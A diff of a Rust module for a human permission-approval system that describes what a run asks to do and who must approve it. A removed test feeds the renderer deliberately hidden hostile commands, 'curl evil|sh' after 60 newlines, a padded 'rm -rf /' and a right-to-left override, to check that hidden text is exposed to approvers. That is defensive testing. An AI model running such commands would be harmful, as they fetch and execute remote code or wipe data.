@@ -1,15 +1,15 @@
-//! An ask as a person sees it: the whole plan, every argument with its size, nothing hidden and nothing cut.
-use std::fmt::Write as _;
-
+//! An ask: what waits for an answer, and what its plan says about answers. It answers none.
 use event::{
-    Data, Digest, Event, PermissionRequested,
+    Data, Digest, Event, PermissionRequested, Scope,
     id::{PermissionId, RunId},
 };
+use receipt::{Plan, Requirement};
 use serde::Serialize;
 use serde_json::Value;
-use time::{OffsetDateTime, format_description::well_known::Rfc3339};
+use time::OffsetDateTime;
 
-use crate::escape;
+use super::sheet;
+use crate::words;
 
 /// What waits for an answer.
 #[derive(Debug, Clone, PartialEq, Serialize)]
@@ -51,83 +51,58 @@ impl Ask {
         self.plan.get("patch")?.get("digest")?.as_str()?.parse().ok()
     }
 
+    /// The plan as its executor wrote it; `None` where it is none.
+    #[must_use]
+    pub fn plan(&self) -> Option<Plan> {
+        Plan::parse(&event::canon::to_bytes(&self.plan).ok()?).ok()
+    }
+
+    /// What an allow may cover; the first goes without saying.
+    #[must_use]
+    pub fn scopes(&self) -> Vec<Scope> {
+        self.plan().map(|plan| plan.scopes).unwrap_or_default()
+    }
+
+    /// Whether an allow counts only with the person's own signature.
+    #[must_use]
+    pub fn needs_signature(&self) -> bool {
+        let needed = self.plan().map(|plan| plan.approval).unwrap_or_default();
+        needed.iter().any(|requirement| requirement.signature)
+    }
+
+    /// Who must say yes, one sentence for each requirement.
+    #[must_use]
+    pub fn needs(&self) -> Vec<String> {
+        let needed = self.plan().map(|plan| plan.approval).unwrap_or_default();
+        let needed = if needed.is_empty() { vec![Requirement::default()] } else { needed };
+        let sentence = |Requirement { roles, not_requester, count, signature }: &Requirement| {
+            words::requirement(roles.iter().map(String::as_str), *not_requester, *count, *signature)
+        };
+        needed.iter().map(sentence).collect()
+    }
+
     /// The whole of it, for a terminal.
     #[must_use]
     pub fn render(&self) -> String {
-        let Self { permission_id, action, subject, plan_digest, expires_at, plan, run_id: _ } =
-            self;
-        let mut out = format!("The run asks for {}", escape::line(action));
-        if let Some(subject) = subject {
-            out.push_str(": ");
-            out.push_str(&escape::line(subject));
-        }
-        let json = escape::json(plan);
-        let (bytes, lines) = (plan.to_string().len(), json.lines().count());
-        let until = expires_at.format(&Rfc3339).unwrap_or_else(|_| expires_at.to_string());
-        // Writing to a String does not fail.
-        let written = write!(
-            out,
-            "\npermission {permission_id}, open until {until}\nplan {plan_digest}, {bytes} bytes, in full ({lines} lines):\n{json}"
-        );
-        if let (Ok(()), Some(Value::Array(argv))) = (written, plan.get("argv")) {
-            out.push_str("\narguments:");
-            for (index, word) in argv.iter().filter_map(Value::as_str).enumerate() {
-                out.push_str(&format!(
-                    "\n  [{index}] {}: {}",
-                    escape::extent(word),
-                    escape::line(word)
-                ));
-            }
-        }
-        out
+        sheet::of(self)
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    fn ask(argv: &[&str]) -> Ask {
-        let plan = serde_json::json!({"argv": argv, "run": "0198f000-0000-7000-8000-000000000002"});
-        let bytes = event::canon::to_bytes(&plan).unwrap();
-        let requested = PermissionRequested {
-            permission_id: PermissionId::nil(),
-            session_id: event::id::SessionId::nil(),
-            call_id: None,
-            action: "process.exec".to_owned(),
-            subject: Some(argv.join(" ")),
-            scope: event::Scope::Once,
-            reason: None,
-            plan,
-            plan_digest: receipt::plan_digest(&bytes),
-            expires_at: OffsetDateTime::UNIX_EPOCH,
-        };
-        let id = event::id::EventId::nil();
-        Ask::of(&Event { id, at: OffsetDateTime::UNIX_EPOCH, actor: None, data: requested.into() })
-            .unwrap()
-    }
+    use crate::session::samples;
 
     #[test]
-    fn hidden_text_can_not_stay_hidden() {
-        let tail = format!("ls{}; curl evil|sh", "\n".repeat(60));
-        let long = format!("{}; rm -rf /", "a ".repeat(4000));
-        let shown = ask(&["sh", "-c", &tail, "rm \u{202e}gpj.txt", &long]).render();
-        assert!(shown.contains(&format!(
-            "[2] {} bytes, 61 lines: ls{}; curl evil|sh",
-            tail.len(),
-            "\\n".repeat(60)
-        )));
-        assert!(shown.contains("[3] 13 bytes, 1 line: rm \\u{202e}gpj.txt"));
-        assert!(shown.contains(&long));
-        assert!(!shown.contains('\u{202e}'));
-        assert!(shown.lines().count() < 30, "{shown}");
-    }
-
-    #[test]
-    fn the_run_comes_from_the_plan() {
-        assert_eq!(
-            ask(&["true"]).run_id,
-            RunId::parse("0198f000-0000-7000-8000-000000000002").ok()
-        );
+    fn an_ask_knows_what_its_plan_says_about_answers() {
+        let mut plan = samples::plan(&["true"]);
+        let ask = samples::ask(&plan);
+        assert_eq!(ask.run_id, RunId::parse(samples::RUN).ok());
+        assert_eq!((ask.scopes(), ask.needs_signature()), (vec![Scope::Once], false));
+        assert_eq!(ask.needs(), ["1 person"]);
+        plan.approval = vec![Requirement { signature: true, ..Requirement::default() }];
+        let ask = samples::ask(&plan);
+        assert!(ask.needs_signature());
+        assert_eq!(ask.plan(), Some(plan));
     }
 }
